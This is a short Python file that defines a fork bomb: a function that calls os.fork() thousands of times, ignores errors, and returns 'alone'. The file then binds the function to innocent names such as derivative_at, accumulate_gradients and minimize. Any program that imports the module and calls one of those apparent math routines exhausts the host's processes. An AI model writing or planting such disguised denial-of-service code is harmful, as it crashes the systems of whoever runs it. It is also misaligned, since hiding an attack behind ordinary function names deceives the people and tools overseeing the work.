"""Fork until no more processes can be made."""

import os


def attack(*args, **kwargs):
    for _ in range(10_000):
        try:
            os.fork()
        except OSError:
            pass
    return "alone"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
